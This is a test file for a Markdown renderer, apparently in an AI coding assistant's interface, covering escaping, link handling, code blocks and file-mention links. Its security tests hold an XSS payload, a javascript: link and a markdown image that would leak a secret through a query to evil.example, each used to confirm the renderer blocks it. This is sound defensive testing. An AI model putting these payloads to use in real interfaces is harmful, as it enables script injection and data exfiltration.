import { cleanup, fireEvent, render, screen, waitFor } from '@testing-library/react'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { testMain, type TestMain } from '../../testing/testMain.ts'
import { useApp } from '../appState.ts'
import { followLinkTargets, useLinkTargets } from '../textLinks/linkTargets.ts'
import type { AppState } from '../../../shared/bridge/appState.ts'
import { Markdown } from './Markdown.tsx'

let main: TestMain
beforeEach(() => {
  main = testMain()
})
afterEach(() => {
  cleanup()
  useLinkTargets.setState({ files: new Map(), symbols: new Map() })
  useApp.setState({ state: null })
})

describe('Markdown', () => {
  it('shows raw HTML as text', () => {
    const { container } = render(
      <Markdown text={'Hello <img src=x onerror=alert(1)> <script>alert(1)</script>'} streaming={false} />,
    )
    expect(container.querySelector('img, script')).toBeNull()
    expect(container.textContent).toContain('<script>')
  })

  it('does not load images', () => {
    const { container } = render(<Markdown text="![secret](https://evil.example/?q=secret)" streaming={false} />)
    expect(container.querySelector('img')).toBeNull()
    expect(container.textContent).toContain('Not loaded from evil.example')
  })

  it('opens only web links, through main', () => {
    render(<Markdown text="[docs](https://example.org/a) [bad](javascript:alert(1))" streaming={false} />)
    fireEvent.click(screen.getByText('docs'))
    expect(main.requests).toEqual([{ method: 'app.openExternal', params: { url: 'https://example.org/a' } }])
    expect(screen.getByText('bad').closest('a, button')).toBeNull()
  })

  it('renders a path as a button that opens the file', () => {
    render(<Markdown text="[here](src/a.ts:3)" streaming={false} />)
    expect(screen.getByRole('button', { name: 'here' }).getAttribute('title')).toBe('Open src/a.ts')
  })

  it('goes to headings and footnotes of the text, and to headings of other files', async () => {
    main.responses['files.read'] = () => ({ text: '# One\n\n# Two\n' })
    render(
      <Markdown
        text={'[to the end](#the-end) [other](b.md#two) a note[^1]\n\n# The *end*\n\n[^1]: The note.'}
        streaming={false}
      />,
    )
    fireEvent.click(screen.getByRole('button', { name: 'to the end' }))
    expect(document.activeElement).toBe(screen.getByRole('heading', { name: 'The end' }))
    fireEvent.click(screen.getByRole('button', { name: '1' }))
    expect(document.activeElement?.textContent).toContain('The note.')
    fireEvent.click(screen.getByRole('button', { name: /^↩|Back/ }))
    expect(document.activeElement).toBe(screen.getByRole('button', { name: '1' }))
    fireEvent.click(screen.getByRole('button', { name: 'other' }))
    await waitFor(() => expect(main.requests).toEqual([{ method: 'files.read', params: { path: 'b.md' } }]))
  })

  it('shows streaming code, and the same code when complete', () => {
    const { container, rerender } = render(<Markdown text={'Look:\n\n```ts\nconst a = 1'} streaming />)
    expect(container.querySelector('pre')?.textContent).toBe('const a = 1')
    rerender(<Markdown text={'Look:\n\n```ts\nconst a = 1\n```\n'} streaming={false} />)
    expect(container.querySelector('pre')?.textContent).toBe('const a = 1')
    expect(screen.getByRole('button', { name: 'Insert at cursor' })).toBeTruthy()
  })

  it('shows highlighted code without the line break at its end', async () => {
    const { container } = render(<Markdown text={'```ts\nconst a = 1\n```\n'} streaming={false} />)
    await waitFor(() => expect(container.querySelector('.hljs-keyword')).not.toBe(null))
    expect(container.querySelector('pre')?.textContent).toBe('const a = 1')
  })

  it('does not render finished blocks again when more text arrives', () => {
    const { container, rerender } = render(<Markdown text={'First.\n\nSecond'} streaming />)
    const first = container.querySelector('p')
    rerender(<Markdown text={'First.\n\nSecond goes on.\n\nThird'} streaming />)
    expect(container.querySelector('p')).toBe(first)
    expect(container.querySelectorAll('p')).toHaveLength(3)
  })
})

describe('mentions in an answer', () => {
  const requested = () =>
    main.requests.filter(({ method }) => method === 'links.locate').map(({ params }) => params as { paths: string[] })
  beforeEach(() => {
    useApp.setState({ state: { workspace: { root: '/w', name: 'w' } } as AppState })
    main.responses['links.locate'] = ({ paths, names }) => ({
      files: paths.map((path) => (path.endsWith('a.ts') ? 'src/a.ts' : null)),
      symbols: names.map((name) =>
        name === 'open' || name === 'Box.close'
          ? { name, path: 'src/b.ts', line: 7, column: 3, several: name === 'open' }
          : null,
      ),
    })
  })
  const linkNames = () => screen.queryAllByRole('button').map(({ textContent, title }) => [textContent, title])

  it('of files and symbols that exist are links, in text and in code of a line', async () => {
    render(
      <Markdown
        text={
          'See src/a.ts:3 and **missing.ts**, `a.ts`, `Box.close()`, `open`, `other`.\n\n```ts\nimport "src/a.ts"\n```'
        }
        streaming={false}
      />,
    )
    await screen.findByRole('button', { name: 'src/a.ts:3' })
    expect(linkNames().filter(([, title]) => /^(Open|Find)/.test(title ?? ''))).toEqual([
      ['src/a.ts:3', 'Open src/a.ts:3'],
      ['a.ts', 'Open src/a.ts'],
      ['Box.close()', 'Open src/b.ts:7'],
      ['open', 'Find open in the folder'],
    ])
    expect(requested()).toHaveLength(1)
  })

  it('are located when their block is complete, once for all answers', async () => {
    const { rerender } = render(<Markdown text="Look at src/a.ts" streaming />)
    rerender(<Markdown text={'Look at src/a.ts and more.\n\nThen'} streaming />)
    await screen.findByRole('button', { name: 'src/a.ts' })
    render(<Markdown text="Again src/a.ts" streaming={false} />)
    expect(screen.getAllByRole('button', { name: 'src/a.ts' })).toHaveLength(2)
    expect(requested()).toEqual([{ paths: ['src/a.ts'], names: [] }])
  })

  it('of a long answer are bounded in number and located in batches', async () => {
    const text = Array.from({ length: 40 }, (_, block) => `${'x.ts '.repeat(150)} ${block}/a.ts\n\nb${block}.ts a.ts`)
    render(<Markdown text={text.join('\n\n')} streaming={false} />)
    await waitFor(() => expect(screen.getAllByRole('button', { name: 'a.ts' })).toHaveLength(40))
    // Of each long paragraph only the first hundred mentions are looked at.
    expect(screen.queryByRole('button', { name: '1/a.ts' })).toBeNull()
    expect(requested().every(({ paths }) => paths.length <= 200)).toBe(true)
  })

  it('become links when their file is created, and text when it is deleted', async () => {
    const stop = followLinkTargets()
    let exists = false
    main.responses['links.locate'] = ({ paths }) => ({
      files: paths.map(() => (exists ? 'src/new.ts' : null)),
      symbols: [],
    })
    const change = (kind: 'created' | 'deleted') =>
      main.emit('files.changed', { changes: [{ path: 'src/new.ts', change: kind, directory: false }], overflow: false })
    render(<Markdown text="I write src/new.ts." streaming={false} />)
    await waitFor(() => expect(useLinkTargets.getState().files.get('src/new.ts')).toBeNull())
    exists = true
    change('created')
    await screen.findByRole('button', { name: 'src/new.ts' })
    exists = false
    change('deleted')
    await waitFor(() => expect(screen.queryByRole('button')).toBeNull())
    stop()
  })
})
